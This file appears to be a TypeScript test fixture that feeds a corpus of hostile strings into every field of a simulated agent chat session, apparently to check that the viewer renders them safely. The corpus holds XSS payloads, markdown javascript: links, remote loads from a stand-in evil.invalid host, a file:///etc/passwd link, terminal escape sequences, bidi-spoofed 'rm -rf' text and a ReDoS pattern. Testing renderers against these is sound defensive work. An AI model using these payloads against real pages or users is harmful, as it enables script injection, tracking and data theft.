/** Texts that try to be more than text, and a chat with each of them wherever an agent's text can appear. */
import type { ContentBlock } from "@agentclientprotocol/sdk";
import type { ToView } from "../../src/shared/messages.js";
import type { Field, Item, Session, ToolContent } from "../../src/shared/model.js";
import { began, session, tool } from "./chats.js";

const evil = "https://evil.invalid";
const run = "window.pwned=1";

export const corpus: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${evil}/x.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${evil}/pixel.png" srcset="${evil}/2x.png 2x">`,
  `<svg onload="${run}"><animate onbegin="${run}" attributeName=x></svg>`,
  `<svg><use href="${evil}/a.svg#a"/><foreignObject><body onload="${run}"></foreignObject></svg>`,
  `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="${evil}/x"></object><embed src="${evil}/x"><video src="${evil}/v" onerror="${run}"></video>`,
  `<style>@import url("${evil}/x.css"); * { background: url(${evil}/y) }</style>`,
  `<link rel="stylesheet" href="${evil}/x.css"><link rel="preconnect" href="${evil}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}"><base href="${evil}/">`,
  `<form action="${evil}"><input autofocus onfocus="${run}"><button formaction="javascript:${run}">go</button></form>`,
  `<div style="background:url(${evil}/z);position:fixed;inset:0" onmouseover="${run}">over it all</div>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `"><script>${run}</script>`,
  `' onmouseover='${run}' x='`,
  "</textarea></title></style></script><script>" + run + "</script>",
  `[click](javascript:${run}) [click](JaVaScRiPt:${run}) [click](java&#10;script:${run}) [c](&#106;avascript:${run})`,
  `[click](data:text/html,<script>${run}</script>) [c](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)`,
  `[click](vbscript:${run}) [click](file:///etc/passwd) [click](command:workbench.action.quit) [c](vscode://x/y)`,
  `[click](//evil.invalid/x) [click](\\\\evil.invalid\\share) [click](https://user:word@evil.invalid/) [c](blob:${evil}/1)`,
  `<javascript:${run}> <data:text/html,x> <command:x>`,
  `![pixel](${evil}/pixel.png) ![x](javascript:${run}) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![a](${evil}/"onerror="${run}) ![a](data:image/png;base64,AAAA" onerror="${run})`,
  `![x" onerror="${run}](https://evil.invalid/p.png "t' onload='${run}")`,
  `[ref]: javascript:${run}\n\n[ref] [a][ref] ![a][ref]`,
  "```\"><img src=x onerror=" + run + ">\n<script>" + run + "</script>\n```",
  "```html\n<script>" + run + "</script><img src=x onerror=" + run + ">\n```",
  "`<img src=x onerror=" + run + ">` ``` <b onclick=" + run + ">``` ",
  `| <img src=x onerror=${run}> | b |\n|:-:"onclick="${run}"|---|\n| <script>${run}</script> | [x](javascript:${run}) |`,
  `<a href="${evil}" target=_top>leave</a> <details open ontoggle="${run}"><summary>x</summary></details>`,
  `<!--[if IE]><script>${run}</script><![endif]--><![CDATA[<script>${run}</script>]]><?xml-stylesheet href="${evil}"?>`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{${run}}`,
  "\u001b]8;;javascript:" + run + "\u0007click\u001b]8;;\u0007 \u001b]0;title\u0007 \u001b]52;c;cHduZWQ=\u0007",
  "\u001b[2J\u001b[H\u001b[31mred\u001b[0m \u001b[8mconcealed\u001b[28m \u001b[?1049h \u001b[6n \u001bP$q\"p\u001b\\ \u009b31mC1 \u0090x\u009c",
  "\u001b[38;2;1;2;3;url(https://evil.invalid)mx\u001b[38;5;999my\u001b[48;2;300;0;0mz\u001b[;;;;;m",
  "a\u0000b\u0007c\u0008d\u000be\u000cf\u007fg\u0085h",
  "rm -rf \u202Egnp.\u2066x\u2069 \u061c\u200e\u200f exe",
  "pass\u200bword ad\u00admin \u2060\ufeff \u{e0041}\u{e0042} \u3164 \u115f",
  "\ud800 lone \udc00 halves \ufffe \uffff",
  "__proto__ constructor toString hasOwnProperty",
  "\u202e".repeat(500) + "a".repeat(3000) + "\u0301".repeat(500),
];

const block = (text: string): ContentBlock[] => [
  { type: "text", text },
  { type: "resource_link", name: text, title: text, uri: text },
  { type: "resource_link", name: text, uri: `javascript:${text}` },
  { type: "resource", resource: { uri: text, text } },
  { type: "resource", resource: { uri: text, blob: "AAAA", mimeType: text } },
  { type: "image", data: text, mimeType: "image/png" },
  { type: "image", data: "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+", mimeType: "image/svg+xml" },
  { type: "image", data: "AAAA", mimeType: text },
  { type: "audio", data: text, mimeType: text },
];

const content = (text: string): ToolContent[] => [
  { type: "text", text, markdown: false },
  { type: "text", text, markdown: true },
  { type: "terminal", terminalId: text, text, signal: text },
  ...block(text).map((one): ToolContent => ({ type: "block", block: one })),
  {
    type: "diff",
    path: text,
    newText: text,
    added: 1,
    removed: 1,
    lines: [{ kind: "added", text }, { kind: "removed", text }, { kind: "same", text }, { kind: "gap", text }],
  },
];

const fields = (text: string): Field[] => [
  { name: text, label: text, description: text, required: true, input: { kind: "text", multiline: false, default: text, pattern: `(a+)+$${text}` } },
  { name: "b", label: text, required: false, input: { kind: "text", multiline: true, default: text } },
  { name: "c", label: text, required: false, input: { kind: "choice", choices: [{ value: text, label: text }, { value: "2", label: text }] } },
  { name: "d", label: text, required: false, input: { kind: "choices", choices: [{ value: text, label: text }] } },
  { name: "e", label: text, required: false, input: { kind: "boolean" } },
];

function items(text: string, n: number): Item[] {
  const id = (kind: string) => `${kind} ${n} ${text.slice(0, 80)}`;
  return [
    { type: "user", id: id("user"), text, attachments: [{ kind: "file", label: text, uri: text }, { kind: "image", label: text, uri: text, data: text }] },
    { type: "message", id: id("message"), text, blocks: block(text) },
    { type: "message", id: id("quoted"), text: `> - ${text.replaceAll("\n", "\n>   ")}`, blocks: [] },
    { type: "thought", id: id("thought"), text, started: began, ended: began + 1 },
    { type: "plan", id: id("plan"), entries: [{ content: text, priority: "high", status: "pending" }] },
    { type: "notice", id: id("notice"), severity: "error", title: text, description: text, retry: true },
    tool({ id: id("tool"), title: text, name: text, kind: "execute", input: JSON.stringify({ command: text, other: text }, null, 2), decision: text, content: content(text), locations: [{ path: text, line: 1 }] }),
    tool({ id: id("inside"), parent: id("tool"), title: text, status: "pending", input: text, permission: { requestId: text, reason: text, options: [{ id: text, name: text, kind: "allow_once" }, { id: "n", name: text, kind: "reject_once" }] } }),
    { type: "question", id: id("question"), message: text, fields: fields(text) },
    { type: "question", id: id("answered"), message: text, fields: [], answer: text },
  ];
}

export function hostileSession(text: string): Partial<Session> {
  return {
    title: text,
    agent: text,
    agents: [text, "other"],
    options: [
      { id: text, name: text, description: text, current: text, choices: [{ value: text, name: text, description: text, group: text }] },
      { id: "on", name: text, description: text, current: true, choices: [] },
    ],
    commands: [{ name: text, description: text, hint: text }],
    usage: { used: 1, size: 2, cost: { amount: 1, currency: text } },
  };
}

export function hostileChat(text: string, n: number): ToView[] {
  return [
    { type: "chat", revision: 1, chat: { session: session(hostileSession(text)), items: items(text, n) } },
    { type: "sessions", first: true, last: true, note: text, sessions: [{ id: text, title: text, folder: text, updatedAt: text, current: false, canRename: true, canDelete: true }] },
  ];
}
